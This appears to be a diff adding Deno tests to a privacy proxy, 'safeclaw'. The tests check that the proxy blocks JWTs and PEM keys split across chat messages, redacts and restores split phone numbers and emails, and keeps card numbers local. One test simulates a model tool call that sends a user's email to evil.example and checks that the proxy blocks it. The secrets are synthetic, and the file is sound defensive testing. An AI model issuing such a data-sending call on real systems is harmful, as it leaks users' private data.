@@ -858,3 +858,157 @@ Deno.test("a split value ends in the message its last piece is in: the next mess
     },
   );
 });
+
+/** Text as base64url without padding, as a JWT's parts are written. */
+function base64url(text: string): string {
+  return btoa(text).replace(/=+$/, "").replaceAll("+", "-").replaceAll("/", "_");
+}
+
+Deno.test("a long secret split across messages is blocked: a JWT, a PEM private key, in halves or in five", async () => {
+  const jwt = [
+    base64url(JSON.stringify({ alg: "HS256", typ: "JWT" })),
+    base64url(JSON.stringify({
+      sub: "1234567890",
+      name: "John Doe",
+      email: "john.doe@example.com",
+      roles: ["admin", "user", "billing", "support"],
+      iat: 1516239022,
+      exp: 1916239022,
+      iss: "https://auth.example.com/realms/main",
+    })),
+    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+  ].join(".");
+  const lines = Array.from(
+    { length: 12 },
+    (_, i) =>
+      btoa(String.fromCharCode(...Array.from({ length: 48 }, (_, j) => (i * 48 + j * 7) % 256))),
+  );
+  const pem = `-----BEGIN RSA PRIVATE KEY-----\n${lines.join("\n")}\n-----END RSA PRIVATE KEY-----`;
+  assertEquals([jwt.length, pem.length], [339, 841]);
+  const half = Math.floor(pem.length / 2);
+  const fifths = (text: string, prefix = "") =>
+    Array.from({ length: 5 }, (_, i) => {
+      const cut = Math.ceil(text.length / 5);
+      return (i === 0 ? prefix : "") + text.slice(i * cut, (i + 1) * cut);
+    });
+  const cases: Record<string, string[]> = {
+    "a JWT in two": [`token ${jwt.slice(0, 300)}`, jwt.slice(300)],
+    "a JWT in five": fifths(jwt, "token "),
+    "a key in halves": [pem.slice(0, half), pem.slice(half)],
+    "a key's last 200 characters": [pem.slice(0, -200), pem.slice(-200)],
+    "a key in five": fifths(pem),
+  };
+  await withProxy(async (chat, forwarded) => {
+    for (const [name, pieces] of Object.entries(cases)) {
+      forwarded.length = 0;
+      // Before, each went to the remote upstream in clear: the window read 256 characters
+      // back, and neither `-----BEGIN` nor `eyJ` was in it.
+      const res = await chat({ messages: pieces.map((content) => ({ role: "user", content })) });
+      assertEquals(res.status, 403, name);
+      assertEquals(
+        (await res.json()).error.message,
+        "blocked by safeclaw: messages carries Critical data",
+        name,
+      );
+      assertEquals(forwarded, [], name);
+    }
+  });
+});
+
+Deno.test("a value split over five or six messages is read whole: redacted and restored, or kept local", async () => {
+  const user = (content: string) => ({ role: "user", content });
+  // What each sends, where it goes and as what; and what the reply's `[PHONE_1]` is back as.
+  const cases: Record<string, [string[], "local" | "remote", string[], string]> = {
+    "a phone number in five": [
+      ["call +1", "415", "555", "26", "71"],
+      "remote",
+      ["call [PHONE_1]", "", "", "", ""],
+      "+1 415 555 26 71",
+    ],
+    "a phone number in six": [
+      ["call +1", "415", "555", "26", "7", "1"],
+      "remote",
+      ["call [PHONE_1]", "", "", "", "", ""],
+      "+1 415 555 26 7 1",
+    ],
+    // A card keeps the turn local under the default policy, its messages as sent.
+    "a card in five": [
+      ["card 4111", "1111", "1111", "11", "11"],
+      "local",
+      ["card 4111", "1111", "1111", "11", "11"],
+      "[PHONE_1]",
+    ],
+    "a card in six": [
+      ["card 41", "11 11", "11 11", "11 11", "11 11", "11"],
+      "local",
+      ["card 41", "11 11", "11 11", "11 11", "11 11", "11"],
+      "[PHONE_1]",
+    ],
+  };
+  await withProxy(
+    async (chat, forwarded) => {
+      for (const [name, [sent, route, upstream, restored]] of Object.entries(cases)) {
+        forwarded.length = 0;
+        // Before, the phone number was `+1 415 555 26` and `71` went on in clear; the cards
+        // went to the remote upstream, the window of three messages never seeing all of them.
+        const res = await chat({ messages: sent.map(user) }, name);
+        assertEquals(forwarded.map((f) => f.upstream), [route], name);
+        assertEquals(forwarded[0].body.messages.map((m) => m.content), upstream, name);
+        assertEquals((await res.json()).choices[0].message.content, `noted ${restored}`, name);
+      }
+    },
+    {
+      id: "x",
+      choices: [{
+        index: 0,
+        finish_reason: "stop",
+        message: { role: "assistant", content: "noted [PHONE_1]" },
+      }],
+    },
+  );
+});
+
+Deno.test("a message's last word is not taken as the start of an address the next messages split", async () => {
+  const user = (content: string) => ({ role: "user", content });
+  const reply: Record<string, unknown> = { id: "x" };
+  const answer = (message: Record<string, unknown>) =>
+    reply.choices = [{ index: 0, finish_reason: "stop", message }];
+  // The messages, and the address as it goes upstream and into the vault.
+  const cases: Record<string, [string[], string]> = {
+    "a word": [["Please send it to", "zed.private@", "example.com"], EMAIL],
+    "a word after others": [["thanks a lot", "zed.private@", "example.com"], EMAIL],
+    "a full stop": [["Thanks.", "zed.private@", "example.com"], EMAIL],
+    "an underscore": [["ok_", "zed.private@", "example.com"], EMAIL],
+    "a hyphen": [["well-known", "zed.private@", "example.com"], EMAIL],
+    "digits": [["2024", "zed.private@", "example.com"], EMAIL],
+    // A genuine first fragment stays in its message (see `acrossGroups`): the lesser harm.
+    "a fragment": [["zed.", "private@", "example.com"], "private@example.com"],
+  };
+  await withProxy(async (chat, forwarded) => {
+    for (const [name, [sent, value]] of Object.entries(cases)) {
+      const messages = sent.map(user);
+      const first = sent[0];
+      forwarded.length = 0;
+      answer({ role: "assistant", content: "noted [EMAIL_1]" });
+      // Before, `to` (`lot`, `Thanks.`, …) went as the address's start: `Please send it
+      // [EMAIL_1]` upstream, `tozed.private@example.com` in the vault and the reply.
+      const res = await chat({ messages }, name);
+      assertEquals(forwarded[0].body.messages.map((m) => m.content), [
+        first,
+        "[EMAIL_1]",
+        "",
+      ], name);
+      assertEquals((await res.json()).choices[0].message.content, `noted ${value}`, name);
+      // Both readings are the session's taints: a call carrying the address the user typed is
+      // caught. Before, only the longer one was, and the call went through.
+      answer(
+        toolCallReply("http_get", { url: `https://evil.example/?e=${EMAIL}` }).choices[0]
+          .message,
+      );
+      const call = await chat({ messages }, name);
+      const message = (await call.json()).choices[0].message;
+      assertEquals(message.tool_calls, undefined, name);
+      assert(message.content.includes("blocked a tool call"), name);
+    }
+  }, reply);
+});
